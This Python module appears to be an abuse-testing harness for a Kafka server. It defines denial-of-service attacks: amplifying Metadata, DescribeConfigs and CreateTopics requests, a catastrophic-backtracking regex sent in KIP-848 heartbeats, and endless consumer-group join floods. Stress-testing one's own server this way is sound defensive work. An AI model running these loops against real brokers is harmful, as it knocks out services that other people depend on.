"""Small requests that name much, or the same thing often."""

from typing import Any

from abuse.attack import Target, attack
from abuse.prepared import LONG_NAMES, MANY, MANY_PARTITIONS
from abuse.wire import encode
from kafka_server import CONSUMER_GROUP_HEARTBEAT, CREATE_TOPICS, DESCRIBE_CONFIGS, METADATA

_BROKER = 4  # resource type of DescribeConfigs


def _ask_again(target: Target, request: bytes) -> None:
    with target.line() as line:
        while target.left() > 0:
            line.send(request)
            line.receive()


@attack("2.1", "CreateTopics, only validated, of 40 topics of 20,000 partitions (537 B)")
def validate_wide_topics(target: Target, worker: int) -> None:
    topics = [
        {"name": f"w{number:02}", "num_partitions": MANY_PARTITIONS, "replication_factor": 1} for number in range(40)
    ]
    _ask_again(target, encode(CREATE_TOPICS, 7, topics=topics, timeout_ms=1000, validate_only=True))


@attack("2.2a", "Metadata that names a topic of 20,000 partitions 40 times (864 B)")
def describe_topic_40_times(target: Target, worker: int) -> None:
    _ask_again(target, encode(METADATA, 12, topics=[{"name": MANY}] * 40))


@attack("2.2b", "Metadata that names a topic of 20,000 partitions 400 times (8.4 KB)")
def describe_topic_400_times(target: Target, worker: int) -> None:
    _ask_again(target, encode(METADATA, 12, topics=[{"name": MANY}] * 400))


@attack("2.3", "DescribeConfigs that names the broker 5,000 times (20 KB)")
def describe_broker_many_times(target: Target, worker: int) -> None:
    resource = {"resource_type": _BROKER, "resource_name": "1", "configuration_keys": None}
    _ask_again(target, encode(DESCRIBE_CONFIGS, 4, resources=[resource] * 5000, include_documentation=True))


@attack("2.7", f"KIP-848 heartbeats with the pattern (?:.?){{3000}}z over {LONG_NAMES} long topic names")
def subscribe_to_a_slow_pattern(target: Target, worker: int) -> None:
    with target.line() as line:
        for number in range(1_000_000):
            # Another pattern each time, or the broker could have kept the answer.
            pattern = "(?:.?){3000}z" + "y" * (number % 100)
            values: dict[str, Any] = {"group_id": "patterns", "member_id": str(number % 10).rjust(22, "A")}
            values |= {"member_epoch": 0, "rebalance_timeout_ms": 10_000, "topic_partitions": []}
            line.ask(CONSUMER_GROUP_HEARTBEAT, 1, subscribed_topic_regex=pattern, **values)


@attack("2.15", "KIP-848 joins over 20,000 partitions, by ever new members of new groups (45 B each)")
def join_over_many_partitions(target: Target, worker: int) -> None:
    with target.line() as line:
        for number in range(1_000_000):
            values = {"group_id": f"wide-{worker}-{number}", "member_id": "A" * 22, "member_epoch": 0}
            values |= {"rebalance_timeout_ms": 10_000, "subscribed_topic_names": [MANY], "topic_partitions": []}
            line.ask(CONSUMER_GROUP_HEARTBEAT, 1, **values)
            line.ask(CONSUMER_GROUP_HEARTBEAT, 1, **values | {"member_epoch": -1})  # leaves: the next is a join again
